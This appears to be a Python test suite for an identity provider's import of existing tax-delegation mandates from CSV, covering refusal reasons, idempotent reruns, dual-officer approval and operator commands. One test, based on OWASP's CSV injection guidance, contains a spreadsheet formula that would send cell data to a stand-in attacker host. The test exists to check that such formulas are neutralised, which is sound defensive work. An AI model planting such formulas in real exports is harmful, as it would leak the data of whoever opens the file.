"""Existing relationships come in from a file: each once, journalled, none at another's cost."""

import csv
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import insert

from idp.cli import idp
from idp.delegation.holding import Why, end
from idp.delegation.import_lines import COLUMNS, REQUIRED, WHY, Allowed, Refused, Relationship, read
from idp.delegation.importing import MandateImport, Source
from idp.delegation.records import MandateRecord
from idp.identifiers.businesses import BusinessNumber, NumberKind, parse
from idp.journal.records import JournalEntry
from idp.keyring.sealing import random_ref
from idp.officers import actions as officers
from idp.officers.actions import COMMAND, Invited
from idp.organisations.records import OrganisationRecord
from idp.register import businesses, tables
from idp.register.businesses import BusinessLine
from idp.register.tables import Counts
from tests.build import ISSUER, Site, claims_of
from tests.docs.documents import codes, named, table

HEADER = ",".join(COLUMNS)
SIAN, MARGARET = "AB123456A", "CE 12 34 56 B"
NOON = datetime(2030, 6, 1, 12, tzinfo=UTC)
TAX = {"view", "file", "repayment"}


class Importer:
    """Imports files into one house, as an operator does; there are a firm and a company in it."""

    def __init__(self, site: Site, folder: Path) -> None:
        self.site, self.folder = site, folder
        self.path, self.rejects = folder / "m.csv", folder / "m.rejects.csv"
        self.told: list[int] = []
        number = parse(NumberKind.COMPANY, "445790")
        assert isinstance(number, BusinessNumber)
        self.number = number
        line = BusinessLine(name="Tesc Ltd", kind="company", numbers=(number,))

        def work(tx: Any) -> str:
            businesses.bring(tx, site.house.keyring, line, by="tests")
            ref = random_ref()
            values = {"ref": ref, "name": "Owen and Co", "kind": "firm", "entered_by": "tests",
                      "created_at": tx.now(), "verified_at": tx.now()}  # fmt: skip
            tx.execute(insert(OrganisationRecord).values(values))
            return ref

        self.firm = site.database.transaction(work)

    def write(self, *lines: str) -> None:
        self.path.write_text("\n".join([HEADER, *lines]) + "\n", encoding="utf-8")

    def load(self, *lines: str, dry_run: bool = False, source: str = "old") -> Counts:
        self.write(*lines)
        return self.again(dry_run=dry_run, source=source)

    def again(self, dry_run: bool = False, source: str = "old") -> Counts:
        """Load what is in the file."""
        house = self.site.house
        said = Source(name=source, evidence="taken-over", by="an operator", officers=("o1", "o2"))
        work = MandateImport(house.database, house.keyring, house.policies, said, dry_run=dry_run)
        return work.run(self.path, self.rejects, lambda at: self.told.append(at.read_count))

    def refused(self) -> list[tuple[str, str]]:
        rows = self.rejects.read_text(encoding="utf-8").splitlines()[1:]
        return [(row.split(",")[0], row.split(",")[1]) for row in rows]

    def mandates(self) -> list[Any]:
        return self.site.rows(MandateRecord)

    def journal(self, kind: str) -> list[Any]:
        return self.site.rows(JournalEntry, kind=kind)


@pytest.fixture
def importer(site: Site, tmp_path: Path) -> Importer:
    return Importer(site, tmp_path)


def line(*, reference: str, principal: str = f"ni,{MARGARET}", delegate: str = f"person,{SIAN}",
         powers: str = "view;file", term: str = ",open", basis: str = "own",
         service: str = "tax") -> str:  # fmt: skip
    return f"{principal},{delegate},{service},{powers},{term},{basis},{reference}"


def test_what_is_loaded_can_be_used_and_is_in_the_journal_of_both(importer: Importer) -> None:
    site = importer.site
    done = importer.load(
        line(reference="r1"),
        line(reference="r2", principal="company,00445790"),
        line(reference="r3", principal="company,445790", delegate="organisation,Owen and Co"),
        line(reference="r4", delegate=f"organisation,{importer.firm}", powers="all"),
    )
    assert done.counts() == {"read": 4, "added": 4, "changed": 0, "unchanged": 0, "rejected": 0}
    held = {row["import_key"]: row for row in importer.mandates()}
    assert {row["state"] for row in held.values()} == {"active"}
    assert held["old:r2"]["principal_kind"] == "business"
    assert held["old:r4"]["powers"] == ["all"]
    assert len({row["bundle"] for row in held.values()}) == 4
    given_rows = importer.journal("mandate-given")
    assert len(given_rows) == 6  # one for each principal, one for each delegate who is a person
    for row in held.values():
        people = [one["person"] for one in given_rows if one["mandate_ref"] == row["ref"]]
        assert row["principal"] in people
    (begun,), (finished,) = (
        importer.journal("mandate-import-begun"),
        importer.journal("mandate-import-finished"),
    )
    assert begun["detail"]["officers"] == ["o1", "o2"]
    assert finished["detail"]["added"] == 4
    site.sign_in()
    tokens = site.redeem("tax", site.act(held["old:r1"]["ref"])).json or {}
    assert claims_of(tokens["access_token"])["mandate"]["id"] == held["old:r1"]["ref"]


def test_a_refused_line_is_no_formula_and_is_read_as_it_was_once_it_is_mended(
    importer: Importer,
) -> None:
    """OWASP, CSV Injection: an operator opens the refused lines in a spreadsheet and saves them."""
    formula = '=HYPERLINK("https://evil.example?"&A1)'
    quoted = '"' + formula.replace('"', '""') + '"'
    refused = line(reference=quoted, delegate="organisation,@Nobody")
    importer.load(refused, line(reference="'-2"), line(reference="r3", delegate="person,+44"))
    assert len(importer.mandates()) == 1
    text = importer.rejects.read_text()
    opened = list(csv.reader(text.splitlines()))
    assert [cells for cells in opened for cell in cells if cell[:1] in {*"=+-@\t\r"} - {""}] == []
    assert [cells[6] for cells in opened[1:]] == ["'@Nobody", "'+44"]
    importer.path.write_text(text.replace("'@Nobody", "Owen and Co").replace("'+44", SIAN))
    done = importer.again()
    assert done.counts() == {"read": 2, "added": 1, "changed": 0, "unchanged": 0, "rejected": 1}
    assert {row["import_key"] for row in importer.mandates()} == {"old:-2", f"old:{formula}"}
    assert "r3" in importer.rejects.read_text(), "held already, by the first line"


def test_a_run_after_a_kill_goes_on_and_stores_nothing_twice(
    importer: Importer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "BATCH_LINES", 1)
    lines = [
        line(reference=f"r{place}", principal=principal, delegate=delegate)
        for place, (principal, delegate) in enumerate(
            [("company,445790", f"person,{SIAN}"), (f"ni,{MARGARET}", f"person,{SIAN}"),
             ("company,445790", "organisation,Owen and Co")]
        )
    ]  # fmt: skip
    work = importer.load.__func__  # type: ignore[attr-defined]

    class Killed(Exception):
        pass

    def die(count: int) -> None:
        raise Killed

    importer.told = type("Dying", (list,), {"append": lambda self, count: die(count)})()
    with pytest.raises(Killed):
        work(importer, *lines)
    assert len(importer.mandates()) == 1
    importer.told = []
    done = importer.load(*lines)
    assert (done.added, done.unchanged, done.rejected) == (2, 1, 0)
    assert importer.load(*lines).unchanged == 3
    assert len(importer.mandates()) == 3
    assert len(importer.journal("mandate-given")) == 3 + 2


def test_a_dry_run_says_the_same_and_stores_nothing(
    importer: Importer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "BATCH_LINES", 1)
    lines = [
        line(reference="r1"), line(reference="r1", principal="company,445790"),
        line(reference="r2"), line(reference="r3", principal="ni,CS100700A"),
    ]  # fmt: skip
    dry = importer.load(*lines, dry_run=True)
    said = importer.refused()
    assert importer.mandates() == []
    assert importer.journal("mandate-import-begun") == []
    wet = importer.load(*lines)
    assert dry.counts() == wet.counts()
    assert said == importer.refused() == [
        ("3", Refused.REFERENCE_USED), ("4", Refused.HELD), ("5", Refused.PRINCIPAL)
    ]  # fmt: skip


def test_nothing_is_taken_from_anybody_and_what_ended_stays_ended(importer: Importer) -> None:
    own = importer.site.give_mandate()
    importer.load(line(reference="r1"))
    assert importer.refused() == [("2", Refused.HELD)]
    done = importer.load(line(reference="r1", delegate="organisation,Owen and Co"))
    assert done.added == 1
    (imported,) = [row for row in importer.mandates() if row["import_key"]]
    importer.site.database.transaction(
        lambda tx: end(tx, imported["ref"], Why.ERROR, who="an operator")
    )
    again = importer.load(line(reference="r1", delegate="organisation,Owen and Co"))
    assert (again.added, again.unchanged) == (0, 1)
    states = {row["ref"]: row["state"] for row in importer.mandates()}
    assert states == {own: "active", imported["ref"]: "ended"}


def test_a_term_that_is_over_stands_in_nobodys_way(importer: Importer) -> None:
    old = importer.site.give_mandate(life=timedelta(seconds=1))
    past = importer.site.database.now() - timedelta(days=1)
    importer.site.change(
        MandateRecord, {"starts": past - timedelta(days=1), "expires": past}, ref=old
    )
    assert importer.load(line(reference="r1")).added == 1
    (row,) = importer.site.rows(MandateRecord, ref=old)
    assert (row["state"], row["ended_reason"]) == ("ended", "expired")


def test_parties_that_are_not_there_or_gone_are_refused(importer: Importer) -> None:
    site = importer.site
    business = site.database.read(
        lambda tx: businesses.find_by_number(tx, site.house.keyring, importer.number)
    )
    assert business is not None
    day = site.database.now().date()
    site.database.transaction(lambda tx: businesses.cease(tx, business.ref, day, by="tests"))
    site.change(OrganisationRecord, {"verified_at": None}, ref=importer.firm)
    importer.load(
        line(reference="r1", principal="company,445790"),
        line(reference="r2", delegate="organisation,Owen and Co"),
        line(reference="r3", delegate="organisation,Nobody and Co"),
        line(reference="r4", delegate="person,CS100700A"),
        line(reference="r5", delegate=f"person,{MARGARET}"),
        line(reference="r6", principal="vat,980780684"),
    )
    assert [why for _, why in importer.refused()] == [
        Refused.PRINCIPAL_GONE, Refused.DELEGATE_GONE, Refused.DELEGATE, Refused.DELEGATE,
        Refused.OWN_DELEGATE, Refused.PRINCIPAL,
    ]  # fmt: skip
    assert importer.mandates() == []


ALLOWED = Allowed(
    services=frozenset({"tax", "plain"}), powers={}, bases=frozenset({"own"}), now=NOON
)
GOOD = {
    "principal_kind": "ni", "principal_number": MARGARET, "delegate_kind": "person",
    "delegate": SIAN, "service": "plain", "powers": "all", "starts": "", "expires": "2031-05-31",
    "basis": "own", "source_reference": "r1",
}  # fmt: skip


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"principal_kind": "passport"}, Refused.PRINCIPAL_KIND),
        ({"delegate_kind": "robot"}, Refused.DELEGATE_KIND),
        ({"delegate_kind": "organisation", "delegate": ""}, Refused.DELEGATE),
        ({"service": "library"}, Refused.SERVICE),
        ({"powers": "view"}, Refused.POWERS),
        ({"powers": " ; "}, Refused.POWERS),
        ({"starts": "1 June"}, Refused.STARTS),
        ({"starts": "2033-06-01", "expires": "2033-07-01"}, Refused.STARTS),
        ({"expires": ""}, Refused.EXPIRES),
        ({"expires": "9999-12-31"}, Refused.EXPIRES),
        ({"expires": "2030-05-31"}, Refused.OVER),
        ({"starts": "2030-07-01", "expires": "2030-06-30"}, Refused.TERM_ORDER),
        ({"expires": "2031-06-02"}, Refused.TOO_LONG),
        ({"expires": "open"}, Refused.NEEDS_END),
        ({"basis": "parental"}, Refused.BASIS),
        ({"source_reference": ""}, Refused.REFERENCE),
        ({"source_reference": "x-AB123456C"}, Refused.REFERENCE_PRIVATE),
        ({"source_reference": "ab 12 34 56"}, Refused.REFERENCE_PRIVATE),
    ],
)
def test_a_line_that_is_wrong_is_refused_with_a_reason(change: dict[str, str], why: str) -> None:
    assert isinstance(read(GOOD, ALLOWED), Relationship)
    assert read(GOOD | change, ALLOWED) == why
    assert WHY[why]


def test_the_last_day_is_one_on_which_it_still_holds() -> None:
    said = read(GOOD | {"starts": "2030-06-10", "expires": "2030-06-30"}, ALLOWED)
    assert isinstance(said, Relationship)
    assert said.starts == datetime(2030, 6, 9, 23, tzinfo=UTC)  # midnight in a British summer
    assert said.expires == datetime(2030, 6, 30, 22, 59, 59, tzinfo=UTC)


@given(st.fixed_dictionaries({name: st.text(max_size=12) for name in COLUMNS}))
def test_any_line_is_read_or_refused(fields: dict[str, str]) -> None:
    said = read(fields, ALLOWED)
    assert isinstance(said, Relationship) or WHY[said]


@pytest.fixture
def command(world: Any, world_url: str, site: Site, monkeypatch: pytest.MonkeyPatch) -> Any:
    """`idp mandate`, on the same database."""
    for name, value in {
        "DATABASE_URL": world_url, "IDP_DATA": str(world.folder), "IDP_ISSUER": ISSUER,
        "IDP_POLICIES": str(world.folder / "policies"), "IDP_KEYS": str(world.folder / "keys"),
    }.items():  # fmt: skip
        monkeypatch.setenv(name, value)

    def run(*words: str, typed: str = "") -> Result:
        return CliRunner().invoke(idp, ["mandate", *words], input=typed)

    return run


def officer(site: Site, name: str, *roles: str, by: str = COMMAND) -> str:
    done = site.database.transaction(
        lambda tx: officers.add_officer(tx, name=name, roles=roles, by=by)
    )
    assert isinstance(done, Invited)
    return done.officer_ref


def test_an_import_needs_two_officers_who_are_apart(importer: Importer, command: Any) -> None:
    site = importer.site
    importer.write(line(reference="r1"))
    head = officer(site, "Ann Head", "administrator", "mandate-officer")
    officer(site, "Bea Owen", "mandate-officer")
    officer(site, "Cai Rees", "mandate-officer", by=head)
    officer(site, "Dee Wood", "counter-officer")
    words = ["import", str(importer.path), "--source", "old"]
    for names, said in (
        ([], "two people"), (["Ann Head"], "two people"), (["Ann Head", "Ann Head"], "apart"),
        (["Ann Head", "Cai Rees"], "apart"), (["Ann Head", "Dee Wood"], "no officer 'Dee Wood'"),
        (["Ann Head", "Nobody"], "no officer"),
    ):  # fmt: skip
        asked = [word for name in names for word in ("--approved-by", name)]
        done = command(*words, *asked)
        assert done.exit_code == 1, names
        assert said in done.output
    assert importer.mandates() == []
    assert "nothing was stored" in command(*words, "--dry-run").output
    assert importer.mandates() == []
    done = command(*words, "--json", "--approved-by", "Bea Owen", "--approved-by", "Cai Rees")
    assert json.loads(done.stdout)["added"] == 1
    (begun,) = importer.journal("mandate-import-begun")
    assert len(begun["detail"]["officers"]) == 2


def test_an_operator_finds_explains_suspends_resumes_and_ends(
    importer: Importer, command: Any
) -> None:
    importer.load(line(reference="r1"), line(reference="r2", delegate="organisation,Owen and Co"))
    listed = json.loads(command("list", "--principal", "ni", "--json", typed=MARGARET).stdout)
    assert {one["delegate_name"] for one in listed} == {None, "Owen and Co"}
    by_firm = json.loads(command("list", "--organisation", "Owen and Co", "--json").stdout)
    (ref,) = [one["ref"] for one in by_firm]
    assert command("list", "--organisation", "Nobody").exit_code == 1
    assert command("list", "--principal", "tax", typed=MARGARET).exit_code == 1
    assert command("list").exit_code == 2
    said = command("explain", ref).output
    assert "A member who is assigned may act now" in said
    assert "P2.C2" in said
    other = command("explain", ref, "--account", "margaret@example.test", "--json")
    assert json.loads(other.stdout)["bar"] == "not-a-member"
    done = command("suspend", ref, "--why", "abuse-suspected")
    assert f"{ref} is suspended now" in done.output
    assert "mandate-suspended" in command("explain", ref).output
    assert command("suspend", ref, "--why", "abuse-suspected").exit_code == 1
    assert command("resume", ref, "--why", "looked-into-and-cleared").exit_code == 0
    ended = json.loads(command("end", ref, "--why", "made-in-error", "--json").stdout)
    assert ended["state"] == "ended"
    assert "removed_by_operator" in command("explain", ref).output
    for again in ("suspend", "resume", "end"):
        why = {"resume": "looked-into-and-cleared"}.get(again, "made-in-error")
        refused = command(again, ref, "--why", why)
        assert refused.exit_code == 1
        assert "it is ended" in refused.output
    shown = json.loads(command("show", ref, "--json").stdout)
    assert [one["kind"] for one in shown["history"]] == [
        "mandate-ended", "mandate-resumed", "mandate-suspended", "mandate-given"
    ]  # fmt: skip
    assert shown["version"] == 4
    assert ended["reference"] in {one["reference"] for one in shown["history"]}
    assert MARGARET.replace(" ", "")[:8] not in command("show", ref).output
    assert command("show", "nothing").exit_code == 1


def test_the_operators_document_explains_every_column_and_every_reason() -> None:
    manual = named("operator-mandates.md")
    rows = {codes(row[0])[0]: row for row in table(manual, "mandate-columns")}
    assert {name: int(row[3]) for name, row in rows.items()} == COLUMNS
    assert tuple(name for name, row in rows.items() if row[1] == "yes") == REQUIRED
    assert {codes(row[0])[0]: row[1] for row in table(manual, "mandate-reasons")} == {
        str(reason): WHY[reason] for reason in Refused
    }
